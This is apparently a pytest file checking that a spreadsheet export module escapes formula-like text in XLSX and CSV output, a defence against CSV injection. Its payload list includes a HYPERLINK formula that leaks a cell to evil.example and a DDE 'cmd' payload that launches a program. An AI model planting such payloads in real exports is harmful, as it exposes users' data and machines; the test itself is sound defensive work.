"""Exports keep formula-like text as text (OWASP CSV injection): the XLSX cell is typed as text with Excel's quote
prefix and reads back as written; the CSV cell gets a leading apostrophe."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from bekal.core.tabular import csv_writer, formula_like, xlsx_append

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&C2,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_only_text_starting_with_a_formula_sign_is_formula_like():
    assert all(formula_like(p) for p in PAYLOADS)
    assert not any(formula_like(v) for v in ["Budi", "a=b", "", 5, -3, None, "5 Februari 2027"])


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_cells_stay_text_and_read_back_as_written(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    xlsx_append(sheet, ["Nama", "Nilai"])
    for payload in PAYLOADS:
        xlsx_append(sheet, [payload, -5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    content = buffer.getvalue()
    assert "<f>" not in _sheet_xml(content) and "<f " not in _sheet_xml(content)
    rows = list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(min_row=2))
    # XML keeps no carriage return: it reads back as a line feed (still text, still no formula).
    assert [r[0].value for r in rows] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert all(r[0].data_type == "s" and r[0].quotePrefix for r in rows)
    assert [r[1].value for r in rows] == [-5] * len(PAYLOADS)  # numbers stay numbers


def test_csv_cells_get_an_apostrophe():
    out = io.StringIO()
    csv_writer(out).writerows([[p, 7, "Budi"] for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[0] for r in rows] == ["'" + p for p in PAYLOADS]
    assert all(r[1:] == ["7", "Budi"] for r in rows)
